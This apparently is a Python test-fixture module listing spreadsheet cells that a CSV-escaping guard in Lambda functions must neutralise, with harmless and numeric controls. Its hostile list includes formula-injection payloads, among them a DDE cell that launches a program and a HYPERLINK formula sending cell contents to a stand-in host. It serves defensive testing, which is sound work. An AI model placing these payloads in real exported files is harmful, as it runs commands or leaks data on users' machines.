"""Cells by which everything that writes CSV is judged: what a spreadsheet would run, and what not.

Functions of Lambda share no code, so the guard stands in each of them; what it must do stands here.
"""

from __future__ import annotations

from collections.abc import Sequence

__all__ = ["HARMLESS", "HOSTILE", "NUMBERS", "as_written"]

HOSTILE = (
    *("=1+1", "=cmd|' /C calc'!Z9", "+cmd|' /C calc'!Z9", "-2+3", "@SUM(Z1)"),
    '=HYPERLINK("http://a.example/"&A1, "x")',
    *("=1\n=2", "=1\r=2"),
    # Blanks that some programs take away before they look; those of control are marked alone.
    *("\t=1", "\r=1", "\n=1", "\0=1", "\tx", "\rx", "\nx", "\0x"),
    *(" =1", "  @x", "\u00a0-x", "\u2003=1", "\x0b=1", "\x0c+x"),
    *(" \t=1", " \0=1", "\u00a0\0 =1"),
    # The same in full width.
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", " \uff20x"),
)
"""An apostrophe goes before each, and nothing else of it changes."""

NUMBERS = ("-1", "+4", "-1.5e3", "+.5", "-", "+", " -1 ")
"""Tables of results keep them, since a number runs nothing; words of reports may not begin so."""

HARMLESS = (
    *("", "x", "1", "1.5", "a=1", "1-2", "e+v", "ada@example.com", "arn:aws:s3:::a", "'=1"),
    *('say "x", y', "; 'x'", "two\nlines", "x\r=1+1", "x\r\n=1+1", "x\0", " x ", "é 漢字 🙂"),
)
"""They stay as they are, within their own cell."""


def as_written(cells: Sequence[str]) -> list[str]:
    """Return what must stand where a hostile cell would."""
    return [f"'{cell}" for cell in cells]
